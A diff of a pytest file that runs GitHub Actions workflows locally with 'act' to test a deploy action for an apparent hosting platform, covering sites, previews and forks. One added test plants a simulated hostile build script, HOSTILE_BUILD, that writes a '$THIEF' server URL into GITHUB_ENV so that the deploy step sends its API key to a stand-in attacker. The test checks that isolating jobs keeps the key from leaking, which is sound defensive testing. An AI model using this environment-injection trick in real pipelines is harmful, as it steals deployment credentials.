@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import shutil
 from typing import TYPE_CHECKING, Any
 
@@ -25,10 +26,11 @@ if TYPE_CHECKING:
     from tests.support.platform import Platform
     from tests.support.rest import Rest
 
-ACTION = "zerokie/zerokie-action"
+ACTION = "YOUR_ORG/zerokie-action"
 ACTIONS_IMAGE = f"act-{ACTION.replace('/', '-').lower()}-v1-dockeraction:latest"
 RUNNER = "docker.io/library/python:3.13-slim-trixie"
 ON_THIS_MACHINE = "-self-hosted"
+CONTAINERS = "--container-options=--stop-signal=KILL"
 WORKFLOW = """\
 on: push
 jobs:
@@ -39,7 +41,7 @@ jobs:
     steps:
       - uses: actions/checkout@v7
       - id: zerokie
-        uses: zerokie/zerokie-action@v1
+        uses: YOUR_ORG/zerokie-action@v1
         with:
           api-key: ${{ secrets.ZEROKIE_API_KEY }}
           api-url: %s
@@ -49,7 +51,7 @@ jobs:
       - run: echo "live at ${{ steps.zerokie.outputs.url }}"
       - run: echo "with ${{ steps.zerokie.outputs.files-uploaded }} files"
       - id: failing
-        uses: zerokie/zerokie-action@v1
+        uses: YOUR_ORG/zerokie-action@v1
         continue-on-error: true
         with:
           api-key: ${{ secrets.ZEROKIE_API_KEY }}
@@ -81,6 +83,22 @@ def action(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder
 
 
+def command_line(act: str, action: Path, event: str, on: str = RUNNER, key: str = API_KEY) -> list[str]:
+    """The runner's command line for the workflows of an event."""
+    secrets = ("ZEROKIE_API_KEY", "PREVIEWS_API_KEY", "PLAN_API_KEY", "FORK_PREVIEWS_API_KEY")
+    return [
+        act,
+        event,
+        f"--platform=ubuntu-latest={on}",
+        "--pull=false",
+        "--rebuild=false",
+        "--network=host",
+        CONTAINERS,
+        *(f"--secret={name}={key}" for name in secrets),
+        f"--local-repository={ACTION}@v1={action}",
+    ]
+
+
 def run_workflow(
     act: str,
     action: Path,
@@ -92,46 +110,72 @@ def run_workflow(
     **env: str,
 ) -> str:
     """Run the workflows of an event, which succeed. Returns the log."""
-    return succeed(
-        act,
-        event,
-        f"--platform=ubuntu-latest={on}",
-        "--pull=false",
-        "--rebuild=false",
-        "--network=host",
-        "--container-options=--stop-signal=KILL",
-        *(f"--secret={name}={key}" for name in ("ZEROKIE_API_KEY", "PREVIEWS_API_KEY", "PLAN_API_KEY")),
-        f"--local-repository={ACTION}@v1={action}",
-        *options,
-        folder=folder,
-        env=env,
-    )
+    command = command_line(act, action, event, on, key)
+    return succeed(*command, *options, folder=folder, env=env)
 
 
 API = "https://api.platform-dev.zerokie.com"
 
 
-def of_this_platform(example: str, platform: Platform) -> str:
-    """An example whose steps talk to this platform."""
-    text = (ROOT / "examples" / "github" / example).read_text("utf-8").replace(API, platform.url)
+def as_act_reads_it(example: str) -> str:
+    """An example without the keys of GitHub's that this act refuses: `deployment` and `queue`."""
+    text = (ROOT / "examples" / "github" / example).read_text("utf-8")
+    return re.sub(r"^ +(deployment|queue): .*\n", "", text, flags=re.MULTILINE)
+
+
+def of_this_platform(text: str, platform: Platform) -> str:
+    """A workflow whose steps talk to this platform: all that is added is a line `api-url`."""
+    text = text.replace(API, platform.url)
     return re.sub(r"^( +)api-key: \$.*", rf"\g<0>\n\1api-url: {platform.url}", text, flags=re.MULTILINE)
 
 
-def use_example(workspace: Path, example: str, platform: Platform) -> None:
-    """Make an example the only workflow of a repository: all that is added to it is a line `api-url`."""
-    workflow = workspace / ".github" / "workflows" / example
-    workflow.parent.mkdir(parents=True)
-    workflow.write_text(of_this_platform(example, platform), "utf-8")
+def save_workflow(folder: Path, name: str, text: str) -> Path:
+    """Make it a workflow of the repository."""
+    workflow = folder / ".github" / "workflows" / name
+    workflow.parent.mkdir(parents=True, exist_ok=True)
+    workflow.write_text(text, "utf-8")
+    return workflow
+
+
+STAND_INS = {
+    "upload-artifact": 'A="$FORGE/${{ inputs.name }}"; rm -rf "$A"; cp -r "${{ inputs.path }}" "$A"',
+    "download-artifact": 'mkdir -p "${{ inputs.path }}" && cp -r "$FORGE/${{ inputs.name }}/." "$_"',
+    "login-action": "true",
+    "build-push-action": 'docker build --tag "${{ inputs.tags }}" "${{ inputs.context }}"',
+}
+STAND_IN = """\
+inputs:
+  {name: {}, path: {}, run-id: {}, github-token: {}, include-hidden-files: {}, if-no-files-found: {},
+   retention-days: {}, registry: {}, username: {}, password: {}, context: {}, push: {}, tags: {}}
+runs:
+  using: composite
+  steps:
+    - run: %s
+      shell: bash
+"""
+
+
+def stand_ins(forge: Path, *workflows: Path) -> list[str]:
+    """Options that make the runner take stand-ins for the pinned actions of others; artifacts are folders."""
+    texts = "".join(workflow.read_text("utf-8") for workflow in workflows)
+    options = [f"--env=FORGE={forge}", f"{CONTAINERS} --volume={forge}:{forge}"]
+    for pin, name in sorted(set(re.findall(rf"((?:actions|docker)/({'|'.join(STAND_INS)})@\w+)", texts))):
+        folder = forge / "actions" / name
+        folder.mkdir(parents=True)
+        (folder / "action.yml").write_text(STAND_IN % STAND_INS[name], "utf-8")
+        options.append(f"--local-repository={pin}={folder}")
+    return options
 
 
 def test_first_workflow(act: str, action: Path, platform: Platform, tmp_path: Path) -> None:
     """The one that the README begins with, in a repository that has nothing else: a site is live."""
-    use_example(tmp_path, "deploy.yml", platform)
-    commit(tmp_path)
+    folder = tmp_path / "workspace"
+    workflow = save_workflow(folder, "deploy.yml", of_this_platform(as_act_reads_it("deploy.yml"), platform))
+    commit(folder)
 
-    run_workflow(act, action, tmp_path)
+    run_workflow(act, action, folder, *stand_ins(tmp_path / "forge", workflow))
 
-    head = succeed("git", "rev-parse", "HEAD", folder=tmp_path).strip()
+    head = succeed("git", "rev-parse", "HEAD", folder=folder).strip()
     assert platform.site("my-site") == {"index.html": f"<h1>This is commit {head}</h1>\n".encode()}
 
 
@@ -142,15 +186,53 @@ def test_command_of_the_sandbox_page(act: str, action: Path, platform: Platform,
     command = command.replace("http://127.0.0.1:8080", platform.url).replace("my-key", API_KEY)
     command = command.replace("/path/to/a/checkout", str(action))
     command = command.replace("catthehacker/ubuntu:act-latest", RUNNER)  # which is here already
-    workflow = tmp_path / ".github" / "workflows" / "deploy.yml"
-    workflow.parent.mkdir(parents=True)
-    shutil.copy(ROOT / "examples" / "github" / "deploy.yml", workflow)
-    commit(tmp_path)
+    folder = tmp_path / "workspace"
+    workflow = save_workflow(folder, "deploy.yml", as_act_reads_it("deploy.yml"))
+    commit(folder)
 
-    here = "--pull=false --rebuild=false --container-options=--stop-signal=KILL"
-    succeed("sh", "-c", f"{act} {command} {here}", folder=tmp_path)
+    here = ["--pull=false", "--rebuild=false", *stand_ins(tmp_path / "forge", workflow)]
+    succeed("sh", "-c", f"{act} {command} {shlex.join(here)}", folder=folder)
 
     assert platform.site("my-site").keys() == {"index.html"}
+
+
+# What a script of a dependency does that the build runs.
+HOSTILE_BUILD = """\
+env > "$FORGE/seen"
+          mkdir -p dist && echo built > dist/index.html
+          for name in ZEROKIE INPUT; do echo "${name}_API_URL=$THIEF" >> "$GITHUB_ENV"; done
+"""
+
+
+@pytest.mark.parametrize("jobs", ["one", "two"])
+def test_a_build_that_wants_the_key(
+    act: str, action: Path, platform: Platform, tmp_path: Path, jobs: str
+) -> None:
+    """In a job with the deploy, one line in `GITHUB_ENV` sends the key anywhere. In a job of its own it
+    neither finds the key nor reaches the deploy.
+    """
+    text = as_act_reads_it("deploy.yml")
+    text = re.sub(r"(?<=run: \|\n          )mkdir(.*\n)+?(?=      - )", lambda _: HOSTILE_BUILD, text)
+    if jobs == "one":  # the build's steps, and then the step that deploys
+        before, rest_of_build = text.split("      - uses: actions/upload-artifact", 1)
+        text = before + "      - id: zerokie\n" + rest_of_build.split("      - id: zerokie\n")[1]
+    folder, forge = tmp_path / "workspace", tmp_path / "forge"
+    forge.mkdir()
+    workflow = save_workflow(folder, "deploy.yml", text)
+    commit(folder)
+    with rest() as thief:
+        call(
+            *command_line(act, action, "push"),
+            *stand_ins(forge, workflow),
+            f"--env=THIEF={thief.url}",
+            f"--env=ZEROKIE_API_URL={platform.url}",
+            folder=folder,
+        )
+    stolen = [headers for headers in thief.headers if API_KEY in headers.get("authorization", "")]
+    assert API_KEY not in (forge / "seen").read_text("utf-8")
+    assert bool(stolen) == (jobs == "one")
+    assert len(thief.requests) == len(stolen)
+    assert bool(platform.state()["apps"]) == (jobs == "two")
 
 
 def test_workflow(act: str, action: Path, platform: Platform, workspace: Path) -> None:
@@ -176,45 +258,15 @@ def test_workflow(act: str, action: Path, platform: Platform, workspace: Path) -
     assert API_KEY not in log
 
 
-STAND_INS = {
-    "upload-artifact": 'cp -r "${{ inputs.path }}" "$FORGE/artifact"',
-    "download-artifact": 'cp -r "$FORGE/artifact" "${{ inputs.path }}"',
-    "setup-node": "true",
-    "login-action": "true",
-    "build-push-action": 'docker build --tag "${{ inputs.tags }}" "${{ inputs.context }}"',
-}
-STAND_IN = """\
-inputs:
-  {name: {}, path: {}, run-id: {}, github-token: {}, include-hidden-files: {}, if-no-files-found: {},
-   node-version: {}, registry: {}, username: {}, password: {}, context: {}, push: {}, tags: {}}
-runs:
-  using: composite
-  steps:
-    - run: %s
-      shell: bash
-"""
-
-
-def stand_ins(folder: Path, *workflows: Path) -> list[str]:
-    """Options that make the runner take stand-ins for the pinned actions of others."""
-    texts = "".join(workflow.read_text("utf-8") for workflow in workflows)
-    options = []
-    for pin, name in sorted(set(re.findall(rf"((?:actions|docker)/({'|'.join(STAND_INS)})@\w+)", texts))):
-        (folder / name).mkdir(parents=True)
-        (folder / name / "action.yml").write_text(STAND_IN % STAND_INS[name], "utf-8")
-        options.append(f"--local-repository={pin}={folder / name}")
-    return options
-
-
 def test_image(act: str, action: Path, platform: Platform, workspace: Path, tmp_path: Path) -> None:
     """Built under the commit's own name in lower case, and deployed by the job after it."""
-    use_example(workspace, "image.yml", platform)
+    workflow = save_workflow(workspace, "image.yml", of_this_platform(as_act_reads_it("image.yml"), platform))
     (workspace / "Dockerfile").write_text("FROM scratch\nCOPY dist /\n", "utf-8")
     commit(workspace)
     call("git", "remote", "set-url", "origin", "git@github.com:Example/Site.git", folder=workspace)
 
-    options = stand_ins(tmp_path / "forge", workspace / ".github" / "workflows" / "image.yml")
     secrets = ("--secret=REGISTRY_TOKEN=token", "--secret=GITHUB_TOKEN=token")
+    options = stand_ins(tmp_path / "forge", workflow)
     log = run_workflow(act, action, workspace, *options, *secrets, on=ON_THIS_MACHINE)
 
     name = platform.app("my-api")["image"]
@@ -224,78 +276,74 @@ def test_image(act: str, action: Path, platform: Platform, workspace: Path, tmp_
     assert "/healthz is healthy" in log
 
 
-def test_several_folders(act: str, action: Path, platform: Platform, workspace: Path) -> None:
-    """Each is deployed to an app of its own."""
-    use_example(workspace, "matrix.yml", platform)
-    for app, folder in (("my-docs", "docs/build"), ("my-blog", "blog/public")):
-        copied = shutil.copytree(workspace / "dist", workspace / folder)
-        (copied / "index.html").write_text(app, "utf-8")
-        platform.create(app)
-    commit(workspace)
-
-    run_workflow(act, action, workspace)
-
-    assert platform.site("my-docs") == contents(workspace / "docs" / "build")
-    assert platform.site("my-blog") == contents(workspace / "blog" / "public")
+SITES = ("web", "docs", "status")
 
 
-def test_npm(act: str, action: Path, platform: Platform, tmp_path: Path) -> None:
-    """What `npm run build` makes is live."""
-    find_program("npm", from_="install Node.js")
-    folder = tmp_path / "workspace"
-    use_example(folder, "npm.yml", platform)
-    scripts = {"build": "mkdir dist && echo built > dist/index.html"}
-    package = {"name": "site", "version": "1.0.0", "scripts": scripts}
-    lock = {"name": "site", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": package}}
-    (folder / "package.json").write_text(json.dumps(package), "utf-8")
-    (folder / "package-lock.json").write_text(json.dumps(lock), "utf-8")
-    commit(folder)
-
-    options = stand_ins(tmp_path / "forge", folder / ".github" / "workflows" / "npm.yml")
-    run_workflow(act, action, folder, *options, on=ON_THIS_MACHINE)
-
-    assert platform.site("my-site") == {"index.html": b"built\n"}
-
-
-# --- a monorepo, through a team's reusable workflow
-
-
-def test_monorepo(act: str, action: Path, platform: Platform, workspace: Path, tmp_path: Path) -> None:
-    """Three sites and a container app are deployed by a workflow of the team's."""
-    team = tmp_path / "team" / ".github" / "workflows"
-    team.mkdir(parents=True)
-    shutil.copy(ROOT / "examples" / "github" / "reusable.yml", team / "zerokie.yml")
-    workflows = workspace / ".github" / "workflows"
-    workflows.mkdir(parents=True)
-    text = (ROOT / "examples" / "github" / "monorepo.yml").read_text("utf-8")
-    text = re.sub(r"^    with:$", rf"\g<0>\n      api-url: {platform.url}", text, flags=re.MULTILINE)
-    (workflows / "deploy.yml").write_text(text, "utf-8")
-    (pin,) = set(re.findall(r"uses: (example/ci)/\S+?(@\w+)", text))
-    sites = ("web", "docs", "status")
-    for site in sites:
+@pytest.fixture
+def monorepo(workspace: Path, platform: Platform) -> Path:
+    """A repository with three sites, whose apps exist."""
+    for site in SITES:
         folder = shutil.copytree(workspace / "dist", workspace / "sites" / site)
         (folder / "index.html").write_text(f"<h1>{site}</h1>", "utf-8")
         platform.create(f"shop-{site}")
-    platform.client.post("/v1/apps", json={"name": "shop-api", "image": "nginx:1"}).raise_for_status()
-    commit(workspace)
+    return workspace
 
-    options = stand_ins(tmp_path / "forge", team / "zerokie.yml")
-    options.append(f"--local-repository={''.join(pin)}={tmp_path / 'team'}")
-    run_workflow(act, action, workspace, *options)
 
-    for site in sites:
-        assert platform.site(f"shop-{site}") == contents(workspace / "sites" / site)
-    assert platform.app("shop-api")["image"].startswith("ghcr.io/example/shop-api:")
+def test_monorepo(act: str, action: Path, platform: Platform, monorepo: Path, tmp_path: Path) -> None:
+    """Each site is deployed to an app of its own; steps after it read what changed, and why it failed."""
+    text = of_this_platform(as_act_reads_it("monorepo.yml"), platform)
+    workflow = save_workflow(monorepo, "deploy.yml", text)
+    commit(monorepo)
+    options = stand_ins(tmp_path / "forge", workflow)
+
+    log = run_workflow(act, action, monorepo, *options)
+    for site in SITES:
+        assert platform.site(f"shop-{site}") == contents(monorepo / "sites" / site)
+        assert f"shop-{site} has changed, see {platform.app(f'shop-{site}')['url']}" in log
+
+    platform.client.post(
+        "/v1/apps/shop-web/deploy/lock", json={"deploy_session_id": "00000000-0000-4000-8000-000000000000"}
+    ).raise_for_status()
+    command = command_line(act, action, "push")
+    log = call(*command, *options, "--env=ZEROKIE_LOCK_TIMEOUT=0", folder=monorepo).log
+    assert "has changed" not in log
+    assert "Another deploy of shop-web holds the lock" in log
+
+
+def test_a_workflow_for_many_repositories(
+    act: str, action: Path, platform: Platform, monorepo: Path, tmp_path: Path
+) -> None:
+    """A repository calls the workflow of the team as docs/pinning.md shows."""
+    team = tmp_path / "team"
+    reusable = save_workflow(team, "zerokie.yml", as_act_reads_it("reusable.yml"))
+    page = (ROOT / "docs" / "pinning.md").read_text("utf-8")
+    (call_of_it,) = re.findall(r"^```yaml\n(deploy:\n(?:.*\n)*?)```", page, re.MULTILINE)
+    (pin,) = set(re.findall(r"uses: (\S+?)/\.github\S+(@\w+)", call_of_it))
+    call_of_it = call_of_it.replace("with:\n", f"with:\n    api-url: {platform.url}\n", 1)
+    deploy = "".join(f"  {line}\n" for line in call_of_it.splitlines())
+    build = as_act_reads_it("deploy.yml").split("  deploy:\n")[0]
+    workflow = save_workflow(monorepo, "deploy.yml", build + deploy)
+    platform.create("my-site")
+    commit(monorepo)
+
+    options = stand_ins(tmp_path / "forge", reusable, workflow)
+    options.append(f"--local-repository={''.join(pin)}={team}")
+    run_workflow(act, action, monorepo, *options)
+
+    assert platform.site("my-site")["index.html"].startswith(b"<h1>This is commit ")
 
 
 # --- the examples of previews
 
 
 class Previews:
-    """A repository with the examples as its workflows.
+    """A repository with the examples as its workflows, for two sites.
 
     `gh` and the actions for artifacts are stand-ins, which read and write files.
     """
+
+    SITES = ("shop-web", "shop-docs")
+    BUILD = "; ".join(f"mkdir -p previews/{site}; echo {site} > previews/{site}/index.html" for site in SITES)
 
     def __init__(self, act: str, action: Path, platform: Platform, folder: Path, api: Rest) -> None:
         self._act, self._action, self._folder, self._api = act, action, folder, api
@@ -303,11 +351,14 @@ class Previews:
         programs = self._forge / "programs"
         programs.mkdir(parents=True)
         shutil.copy(ROOT / "tests" / "support" / "gh", programs)
-        workflows = folder / ".github" / "workflows"
-        workflows.mkdir(parents=True)
-        for example in (ROOT / "examples" / "github").glob("p*.yml"):
-            (workflows / example.name).write_text(of_this_platform(example.name, platform), "utf-8")
-        self._options = stand_ins(self._forge, *workflows.iterdir())
+        workflows = []
+        for example in sorted((ROOT / "examples" / "github").glob("p*.yml")):
+            text = of_this_platform(as_act_reads_it(example.name), platform)
+            text = text.replace("site: [my-site]", "site: [shop-web, shop-docs]")
+            text = text.replace("SITES: my-site", "SITES: shop-web shop-docs")
+            text = re.sub(r"mkdir -p previews/(.*\n).*", self.BUILD, text)
+            workflows.append(save_workflow(folder, example.name, text))
+        self._options = stand_ins(self._forge, *workflows)
 
     def run(self, workflow: str, event: str, on: str = RUNNER, key: str = API_KEY, **payload: Any) -> str:
         """Run a workflow; `payload` is the event's."""
@@ -321,7 +372,6 @@ class Previews:
             f"--workflows=.github/workflows/{workflow}",
             f"--eventpath={file}",
             "--secret=GITHUB_TOKEN=token",
-            f"--secret=FORK_PREVIEWS_API_KEY={API_KEY}",
             f"--env=GITHUB_API_URL={self._api.url}",
             *self._options,
             event=event,
@@ -331,15 +381,11 @@ class Previews:
             PATH=f"{self._forge}/programs:{os.environ['PATH']}",
         )
 
-    def comment(self, number: int) -> str:
-        """What was written last on a pull request; it has no comment of ours before."""
+    def comments(self, number: int) -> str:
+        """All that was written on a pull request, which has no comment of ours before."""
         asked = f"POST {_comments(number)}"
-        bodies = [
-            body
-            for request, body in zip(self._api.requests, self._api.bodies, strict=True)
-            if request == asked
-        ]
-        return str(json.loads(bodies[-1])["body"])
+        requests = zip(self._api.requests, self._api.bodies, strict=True)
+        return "\n".join(json.loads(body)["body"] for request, body in requests if request == asked)
 
     def pulls(self, *pulls: dict[str, Any]) -> None:
         """The open pull requests that the forge knows."""
@@ -360,6 +406,7 @@ def previews(act: str, action: Path, platform: Platform, workspace: Path) -> Ite
             api.answers |= {
                 f"GET {_comments(number)}?per_page=100&page=1&sort=asc&order_by=created_at": ([], {}),
                 f"POST {_comments(number)}": ({"id": number}, {}),
+                f"PATCH /repos/example/site/issues/comments/{number}": ({"id": number}, {}),
             }
         previews = Previews(act, action, platform, workspace, api)
         commit(workspace)
@@ -369,70 +416,62 @@ def previews(act: str, action: Path, platform: Platform, workspace: Path) -> Ite
 
 def pull_request(number: int, repository: str = "example/site") -> dict[str, Any]:
     head = {"ref": "topic", "repo": {"full_name": repository}}
-    return {"number": number, "pull_request": {"number": number, "head": head}}
+    request = {"number": number, "head": head, "user": {"login": "somebody"}}
+    return {"number": number, "pull_request": request}
 
 
-def test_preview_of_a_pull_request(previews: Previews, platform: Platform, workspace: Path) -> None:
-    """Created when it is opened, removed when it is closed; a plan changes nothing."""
+def test_previews_of_a_pull_request(previews: Previews, platform: Platform) -> None:
+    """Each site has one. They are created when it is opened, and deleted when it is closed."""
     previews.run("preview.yml", "pull_request", action="opened", **pull_request(12))
-    assert platform.site("my-site-pr-12") == contents(workspace / "dist")
-    assert "`my-site-pr-12` is deployed" in previews.comment(12)
+    assert set(platform.state()["apps"]) == {f"{site}-pr-12" for site in previews.SITES}
+    for site in previews.SITES:
+        assert platform.site(f"{site}-pr-12") == {"index.html": f"{site}\n".encode()}
+        assert f"`{site}-pr-12` is deployed" in previews.comments(12)
 
+    platform.create("shop-web-pr-13")
+    previews.run(
+        "preview-cleanup.yml", "pull_request_target", ON_THIS_MACHINE, action="closed", **pull_request(12)
+    )
+    assert set(platform.state()["apps"]) == {"shop-web-pr-13"}
+    assert "`shop-docs-pr-12` is deleted" in previews.comments(12)
+
+
+def test_plan(previews: Previews, platform: Platform, workspace: Path) -> None:
+    """It changes nothing; a fork's is not made."""
     platform.create("my-site")
     previews.run("plan.yml", "pull_request", action="opened", **pull_request(12))
-    assert f"A deploy would upload {len(contents(workspace / 'dist'))} files" in previews.comment(12)
+    assert f"A deploy would upload {len(contents(workspace / 'dist'))} files" in previews.comments(12)
     assert platform.site("my-site") == {}
 
-    previews.run("preview-closed.yml", "pull_request_target", action="closed", **pull_request(12))
-    assert list(platform.state()["apps"]) == ["my-site"]
-    assert "`my-site-pr-12` is deleted" in previews.comment(12)
-
-
-def test_previews_of_a_monorepo(previews: Previews, platform: Platform, workspace: Path) -> None:
-    """A pull request has an app of each site."""
-    sites = ("web", "docs", "status")
-    for site in sites:
-        copied = shutil.copytree(workspace / "dist", workspace / "sites" / site)
-        (copied / "index.html").write_text(site, "utf-8")
-    call("git", "add", "--all", folder=workspace)
-
-    previews.run("preview-monorepo.yml", "pull_request", action="opened", **pull_request(12))
-
-    assert set(platform.state()["apps"]) == {f"shop-{site}-pr-12" for site in sites}
-    for site in sites:
-        assert platform.site(f"shop-{site}-pr-12") == contents(workspace / "sites" / site)
+    log = previews.run("plan.yml", "pull_request", action="opened", **pull_request(7, "fork/site"))
+    assert "upload" not in log
+    assert previews.comments(7) == ""
 
 
 def test_sweep(previews: Previews, platform: Platform) -> None:
     """By hand a dry run; at night what is not open goes, and nothing else."""
-    for app in ("my-site-pr-1", "my-site-pr-2", "my-site-pr-30", "my-site-pr-3-old", "my-site"):
+    kept = {"shop-web-pr-2", "shop-web-pr-3-old", "shop-web", "my-site-pr-30"}
+    gone = {"shop-web-pr-1", "shop-docs-pr-30", "shop-web-pr-30"}
+    for app in sorted(kept | gone):
         platform.create(app)
     previews.pulls({"number": 2})
 
-    log = previews.run("preview-sweep.yml", "workflow_dispatch", ON_THIS_MACHINE, inputs={"dry-run": "true"})
-    assert "would destroy app 'my-site-pr-30'" in log
-    assert len(platform.state()["apps"]) == 5
+    log = previews.run(
+        "preview-cleanup.yml", "workflow_dispatch", ON_THIS_MACHINE, inputs={"dry-run": "true"}
+    )
+    assert "would destroy app 'shop-web-pr-30'" in log
+    assert set(platform.state()["apps"]) == kept | gone
 
-    previews.run("preview-sweep.yml", "schedule", ON_THIS_MACHINE)
-    assert set(platform.state()["apps"]) == {"my-site-pr-2", "my-site-pr-3-old", "my-site"}
-    assert "`my-site-pr-30` is deleted" in previews.comment(30)
+    previews.run("preview-cleanup.yml", "schedule", ON_THIS_MACHINE)
+    assert set(platform.state()["apps"]) == kept
+    assert "`shop-docs-pr-30` is deleted" in previews.comments(30)
 
 
-def test_preview_of_a_fork(previews: Previews, platform: Platform, workspace: Path) -> None:
+def test_previews_of_a_fork(previews: Previews, platform: Platform) -> None:
     """Built without the key, deployed with it under the number that the forge knows; only for forks."""
     previews.pulls({"number": 7, "head": {"sha": "c0ffee", "repo": {"full_name": "fork/site"}}})
 
-    log = previews.run(
-        "preview.yml",
-        "pull_request",
-        ON_THIS_MACHINE,
-        key="",
-        action="opened",
-        **pull_request(7, "fork/site"),
-    )
-    assert "`api-key` is empty" in log
-    dist = contents(workspace / "dist")
-    shutil.rmtree(workspace / "dist")
+    previews.run("preview.yml", "pull_request", key="", action="opened", **pull_request(7, "fork/site"))
     assert platform.state()["apps"] == {}
 
     def deploy(repository: str) -> None:
@@ -450,5 +489,6 @@ def test_preview_of_a_fork(previews: Previews, platform: Platform, workspace: Pa
     assert platform.state()["apps"] == {}
 
     deploy("fork/site")
-    assert platform.site("my-site-pr-7") == dist
-    assert "`my-site-pr-7` is deployed" in previews.comment(7)
+    for site in previews.SITES:
+        assert platform.site(f"{site}-pr-7") == {"index.html": f"{site}\n".encode()}
+        assert f"`{site}-pr-7` is deployed" in previews.comments(7)
